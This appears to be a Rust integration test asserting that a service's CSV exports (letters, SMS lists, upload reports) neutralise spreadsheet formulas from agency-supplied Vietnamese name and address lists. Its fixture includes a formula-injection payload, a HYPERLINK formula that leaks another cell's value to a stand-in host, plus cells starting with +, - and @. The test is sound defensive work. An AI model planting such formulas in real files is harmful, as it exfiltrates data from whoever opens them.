//! Every CSV the service hands out carries data, never formulas: names and addresses from
//! agencies' lists that a spreadsheet would evaluate are neutralised, numbers stay numbers.

use crate::helpers::{ADMIN_EMAIL, ADMIN_PASSWORD, TestApp};
use crate::lists::{confirmed_list, wave_with_period};
use crate::on_both_backends;
use crate::wave_pages::{get, signed_in};
use serde_json::json;

on_both_backends!(exported_csv_files_neutralise_formulas_from_agency_lists);

const FORMULA: &str = "=HYPERLINK(\"http://x/?leak=\"&C2,\"x\")";

/// Names and addresses a spreadsheet would take for formulas; the last has no address, so
/// an SMS goes to them.
const LIST: &str = "Họ và tên,Địa chỉ,Điện thoại,Email,Xã\n\
\"=HYPERLINK(\"\"http://x/?leak=\"\"&C2,\"\"x\"\")\",+84 Thôn Đông,0912000001,,00001\n\
Trần Văn Thơ,-Xóm Chợ,0912000002,,00001\n\
Lê Thị Tin,@Thôn Tây,0912000003,=1+1@x,00001\n\
-Phạm Văn Nhắn,,0912000004,,00002\n";

/// Every cell of a CSV (the BOM taken off the first).
fn cells(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|record| record.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// No cell a spreadsheet would evaluate; returns the cells.
fn without_formulas(name: &str, csv: &str) -> Vec<Vec<String>> {
    let rows = cells(csv);
    assert!(rows.len() > 1, "{name}: {csv}");
    for cell in rows.iter().flatten() {
        let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
        assert!(!formula, "{name}: a cell a spreadsheet would evaluate: {cell:?}");
    }
    rows
}

async fn exported_csv_files_neutralise_formulas_from_agency_lists(app: TestApp) {
    app.seed_places().await;
    let wave = wave_with_period(&app).await;
    assert_eq!(app.post(&format!("/api/v1/waves/{wave}/open"), &json!({})).await.status(), 200);
    let uploaded = confirmed_list(&app, &wave, LIST).await;
    assert_eq!(uploaded["accepted"], 4, "{uploaded}");
    let design = json!({"level": "commune", "method": "quota", "quota": 100, "seed": 1, "reserve": 0});
    assert_eq!(app.post(&format!("/api/v1/waves/{wave}/sample"), &design).await.status(), 201);
    let sent = app.post(&format!("/api/v1/waves/{wave}/invitations/send"), &json!({"channel": "auto"})).await;
    assert_eq!(sent.status(), 200);

    let fetch = |path: String| {
        let app = &app;
        async move {
            let response = app.get_as(&app.admin_token, &path).await;
            assert_eq!(response.status(), 200, "{path}");
            response.text().await.unwrap()
        }
    };
    let letters = without_formulas("letters.csv", &fetch(format!("/api/v1/waves/{wave}/letters.csv")).await);
    let column = |rows: &[Vec<String>], i: usize| rows.iter().map(|r| r[i].clone()).collect::<Vec<_>>();
    let names = column(&letters, 0);
    assert!(names.contains(&format!("'{FORMULA}")), "the name, shown as typed: {names:?}");
    let addresses = column(&letters, 1);
    for address in ["'+84 Thôn Đông", "'-Xóm Chợ", "'@Thôn Tây"] {
        assert!(addresses.contains(&address.to_string()), "{address} in {addresses:?}");
    }

    let sms = without_formulas("sms.csv", &fetch(format!("/api/v1/waves/{wave}/sms.csv")).await);
    assert_eq!(sms.len(), 2, "one SMS: {sms:?}");
    assert_eq!(sms[1][0], "0912000004");
    assert!(sms[1][2].parse::<u32>().is_ok() && sms[1][3].parse::<u32>().is_ok(), "numbers as numbers: {sms:?}");

    let upload = uploaded["upload_id"].as_str().unwrap();
    let report = without_formulas("report.csv", &fetch(format!("/api/v1/uploads/{upload}/report.csv")).await);
    assert_eq!(column(&report, 0)[1..], ["2", "3", "4", "5"], "line numbers as numbers");
    assert!(column(&report, 2).iter().any(|reason| reason.contains("=1+1@x")), "{report:?}");

    // The page's downloads are the same files.
    let (client, _) = signed_in(&app, ADMIN_EMAIL, ADMIN_PASSWORD).await;
    for (page, api) in [("thu-moi.csv", "letters.csv"), ("tin-nhan.csv", "sms.csv")] {
        let (status, body) = get(&client, &app, &format!("/quan-ly/dot/{wave}/{page}")).await;
        assert_eq!(status, 200, "{page}");
        let rows = without_formulas(page, &body);
        assert_eq!(rows, cells(&fetch(format!("/api/v1/waves/{wave}/{api}")).await), "{page}");
    }
}
